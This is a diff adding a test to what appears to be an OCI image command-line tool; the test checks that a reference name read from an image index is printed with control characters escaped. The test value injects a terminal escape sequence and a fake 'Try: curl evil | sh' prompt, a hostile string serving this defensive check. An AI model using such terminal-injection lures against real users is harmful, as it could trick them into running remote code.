@@ -477,6 +477,17 @@ async def pulled_oci(served: Served, root: Path) -> tuple[Image, _cli._OciLayout
     return image, _cli._OciLayout(root)
 
 
+async def test_a_name_from_dir_is_shown_escaped(served: Served, tmp_path: Path) -> None:
+    await pulled_oci(served, tmp_path)
+    index = json.loads((tmp_path / "index.json").read_text())
+    index["manifests"][0]["annotations"][_cli.REF_NAME] = "v1\x1b]0;owned\x07\nTry: curl evil | sh"
+    (tmp_path / "index.json").write_text(json.dumps(index))
+    done = await cli("push", tmp_path, f"{served.url}/copies/model:v1")
+    assert done.returncode == 0, done.stderr
+    assert "\x1b" not in done.stdout
+    assert "v1\\x1b]0;owned\\x07\\nTry: curl evil | sh" in done.stdout
+
+
 async def push_in_process(served: Served, layout: _cli._Layout, repository: str) -> None:
     """Push ``layout``'s image v1 to ``served`` as ``repository``:v1, in this process."""
     ref = Reference.parse(f"{served.url}/{repository}:v1")
